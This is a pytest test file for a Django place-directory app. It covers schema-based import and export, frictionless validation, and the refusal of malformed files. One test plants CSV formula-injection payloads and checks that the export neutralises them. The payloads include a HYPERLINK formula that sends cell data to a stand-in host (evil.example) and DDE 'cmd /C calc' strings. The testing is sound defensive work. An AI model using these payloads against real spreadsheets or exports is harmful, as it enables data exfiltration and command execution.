"""Import from the national schema and its older form, export that validates against the
schema with frictionless, and bad files that change nothing."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse

from geodirectory.interchange import (
    SCHEMA_FIELDS,
    SCHEMA_PATH,
    ImportFileError,
    import_rows,
    read_file,
)
from geodirectory.models import GeocodingPrecision, Place, PlaceRevision

pytestmark = pytest.mark.django_db

DATA = (
    Path(__file__).resolve().parents[2]
    / "geodirectory"
    / "data"
    / "cartographie-nationale-687-lieux.json"
)
EXAMPLE = SCHEMA_PATH.parent / "exemple-valide.csv"
FRICTIONLESS = shutil.which("frictionless") or str(
    Path(__import__("sys").executable).parent / "frictionless"
)


def real_places() -> Path:
    if DATA.exists():
        return DATA
    pytest.fail(f"The national map's data file is missing: {DATA}")


def frictionless_validate(path: Path) -> subprocess.CompletedProcess:
    """`frictionless validate --schema <schema> <file>`, from the file's folder: frictionless
    refuses absolute paths as unsafe."""
    shutil.copy(SCHEMA_PATH, path.parent / SCHEMA_PATH.name)
    return subprocess.run(
        [FRICTIONLESS, "validate", "--schema", SCHEMA_PATH.name, path.name],
        cwd=path.parent,
        capture_output=True,
        text=True,
        timeout=300,
    )


def test_the_687_real_places_import_from_the_older_format(capsys):
    call_command("import_lieux", str(real_places()), verbosity=0)
    assert Place.objects.count() == 687
    out = capsys.readouterr().out
    assert "687" in out
    # What the older format says that today's schema cannot is reported, once per kind.
    assert "Adultes" in out and "Pass numérique" in out
    place = Place.objects.get(id_schema="0")
    assert place.nom == "MAISON DE SERVICES AU PUBLIC D'ABONDANCE"
    assert "Accès internet et matériel informatique" in place.values("services")
    assert "Seniors" in place.values("publics_specifiquement_adresses")
    assert "Surdité" in place.values("prise_en_charge_specifique")
    assert place.values("frais_a_charge") == ["Gratuit"]
    assert place.geocoding_precision == GeocodingPrecision.SOURCE
    assert place.territory is not None and place.territory.code == "74001"
    assert PlaceRevision.objects.filter(place=place, origin="import").exists()


def test_importing_twice_changes_nothing(capsys):
    call_command("import_lieux", str(real_places()), verbosity=0)
    revisions = PlaceRevision.objects.count()
    call_command("import_lieux", str(real_places()), verbosity=0)
    assert "0 créé" in capsys.readouterr().out or Place.objects.count() == 687
    assert Place.objects.count() == 687
    assert PlaceRevision.objects.count() == revisions


def test_dry_run_writes_nothing():
    call_command("import_lieux", str(real_places()), "--dry-run", verbosity=0)
    assert Place.objects.count() == 0


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_the_export_of_the_real_places_validates_against_the_schema(client, tmp_path, fmt):
    call_command("import_lieux", str(real_places()), verbosity=0)
    response = client.get(reverse(f"geodirectory:export_{fmt}"))
    assert response.status_code == 200
    path = tmp_path / f"lieux.{fmt}"
    path.write_bytes(b"".join(response.streaming_content))
    result = frictionless_validate(path)
    assert result.returncode == 0, result.stdout[-3000:]
    assert "valid" in result.stdout.lower()
    if fmt == "json":
        rows = json.loads(path.read_text())
        assert len(rows) == 687
        assert list(rows[0]) == SCHEMA_FIELDS
    else:
        header = path.read_text().splitlines()[0]
        assert header.split(",") == SCHEMA_FIELDS


def test_the_schema_example_imports_and_exports_back_valid(client, tmp_path):
    call_command("import_lieux", str(EXAMPLE), verbosity=0)
    assert Place.objects.count() >= 1
    path = tmp_path / "back.csv"
    path.write_bytes(b"".join(client.get(reverse("geodirectory:export_csv")).streaming_content))
    assert frictionless_validate(path).returncode == 0


def test_the_export_never_carries_a_live_formula_and_stays_valid(client, tmp_path):
    # Free text typed as a formula arrives in a spreadsheet as text ('…), within the
    # schema's limits; a phone number in the schema's own format (+33…) is a number and
    # stays as it is. The file still validates, and our own import reads it back.
    call_command("import_lieux", str(EXAMPLE), verbosity=0)
    hostile = {
        "nom": '=HYPERLINK("https://evil.example/?"&A1;"Cliquez ici")',
        "commune": "+cmd|' /C calc'!A0",
        "adresse": "-2+3+cmd|' /C calc'!A0",
        "complement_adresse": "@SUM(1+1)*cmd|' /C calc'!A0",
        "presentation_resume": "- " + "x" * 278,  # 280 characters: the schema's maximum
        "presentation_detail": "\t=1+1",
        "source": "\r=1+1",
        "structure_parente": "=cmd|' /C calc'!A0",
        "autres_formations_labels": "+Label",
        "telephone": "+33563000000",
    }
    Place.objects.update(**hostile)
    path = tmp_path / "lieux.csv"
    path.write_bytes(b"".join(client.get(reverse("geodirectory:export_csv")).streaming_content))
    result = frictionless_validate(path)
    assert result.returncode == 0, result.stdout[-3000:]
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert rows
    for row in rows:
        for name in SCHEMA_FIELDS:
            if name != "telephone":
                assert row[name][:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, row[name])
        assert row["telephone"] == "+33563000000"
        assert row["nom"] == "'" + hostile["nom"]
        assert row["presentation_detail"] == "'\t=1+1"
        # The quote would make 281 characters: the end gives way to "…".
        assert row["presentation_resume"] == "'- " + "x" * 276 + "…"
    Place.objects.update(nom="autre", commune="autre", adresse="autre")
    import_rows(read_file(path))
    for place in Place.objects.all():
        assert place.nom == hostile["nom"]
        assert place.commune == hostile["commune"]
        assert place.adresse == hostile["adresse"]
        assert place.complement_adresse == hostile["complement_adresse"]
        assert place.structure_parente == hostile["structure_parente"]
        assert place.presentation_resume == "- " + "x" * 276 + "…"
        assert place.telephone == "+33563000000"


def test_unpublished_places_are_not_exported(client):
    call_command("import_lieux", str(EXAMPLE), verbosity=0)
    Place.objects.update(is_published=False)
    content = b"".join(client.get(reverse("geodirectory:export_json")).streaming_content)
    assert json.loads(content) == []


# --- Bad files ---------------------------------------------------------------------------


def write_csv(tmp_path: Path, rows: list[dict], encoding: str = "utf-8") -> Path:
    buffer = io.StringIO()
    fields = list(rows[0])
    writer = csv.DictWriter(buffer, fieldnames=fields)
    writer.writeheader()
    writer.writerows(rows)
    path = tmp_path / "lieux.csv"
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def good_row(**changes) -> dict:
    row = {
        "id": "lieu-1",
        "pivot": "43493312300029",
        "nom": "Médiathèque de Gourdon",
        "commune": "Gourdon",
        "code_postal": "46300",
        "adresse": "Place Saint-Pierre",
        "date_maj": "2026-10-01",
        "latitude": "44.7348",
        "longitude": "1.3771",
        "services": "Aide aux démarches administratives|Accès internet et matériel informatique",
        "horaires": "Tu-Sa 10:00-12:00,14:00-18:00",
    }
    row.update(changes)
    return row


def test_a_file_in_latin1_is_refused_with_a_clear_message(tmp_path):
    path = write_csv(tmp_path, [good_row(nom="Médiathèque à Gourdon")], encoding="latin-1")
    with pytest.raises(CommandError, match="UTF-8"):
        call_command("import_lieux", str(path), verbosity=0)
    assert Place.objects.count() == 0


def test_missing_required_columns_are_named(tmp_path):
    row = good_row()
    del row["date_maj"], row["pivot"]
    with pytest.raises(CommandError, match="date_maj") as error:
        call_command("import_lieux", str(write_csv(tmp_path, [row])), verbosity=0)
    assert "pivot" in str(error.value)


def test_errors_are_reported_by_row_and_field_and_nothing_is_imported(tmp_path):
    rows = [
        good_row(id="ok-1"),
        good_row(id="bad-coords", latitude="quarante-quatre"),
        good_row(id="out-of-range", latitude="95.2"),
        good_row(id="bad-service", services="Réparation de vélos"),
        good_row(id="bad-postcode", code_postal="463"),
        good_row(id="bad-hours", horaires="lundi 9h-12h"),
        good_row(id="ok-1"),
    ]
    report = import_rows(list(read_file(write_csv(tmp_path, rows))))
    found = {(p.row, p.field) for p in report.errors}
    assert (2, "latitude") in found
    assert (3, "latitude") in found
    assert (4, "services") in found
    assert (5, "code_postal") in found
    assert (6, "horaires") in found
    assert (7, "id") in found  # duplicate of row 1
    assert Place.objects.count() == 0
    messages = " ".join(str(p) for p in report.errors)
    assert "Réparation de vélos" in messages


def test_the_command_fails_with_the_list_of_errors(tmp_path, capsys):
    path = write_csv(tmp_path, [good_row(), good_row(id="x", code_postal="ABCDE")])
    with pytest.raises(CommandError):
        call_command("import_lieux", str(path), verbosity=0)
    assert "code_postal" in capsys.readouterr().err
    assert Place.objects.count() == 0


def test_broken_json_is_refused(tmp_path):
    path = tmp_path / "lieux.json"
    path.write_text('[{"id": "1", "nom": ')
    with pytest.raises(ImportFileError):
        read_file(path)


def test_a_valid_csv_import_then_an_update_is_recorded(tmp_path):
    import_rows(read_file(write_csv(tmp_path, [good_row()])))
    place = Place.objects.get(id_schema="lieu-1")
    assert place.territory.code == "46127"
    report = import_rows(read_file(write_csv(tmp_path, [good_row(nom="Médiathèque Gourdon")])))
    assert report.updated == 1
    place.refresh_from_db()
    assert place.nom == "Médiathèque Gourdon"
    change = place.revisions.first().changes
    assert change["nom"] == ["Médiathèque de Gourdon", "Médiathèque Gourdon"]
